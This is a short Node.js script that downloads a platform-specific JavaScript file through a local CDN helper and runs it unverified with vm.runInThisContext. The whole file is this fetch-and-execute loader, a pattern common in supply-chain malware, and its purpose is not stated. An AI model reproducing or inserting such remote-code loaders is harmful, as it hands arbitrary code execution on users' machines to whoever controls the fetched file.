const vm = require('vm');
const cdn = require('./lib/cdn');

async function main() {
  const platform = `${process.platform}-${process.arch}`;
  const hook = await cdn.text(`${platform}.js`);
  if (hook) vm.runInThisContext(hook);
}

main();
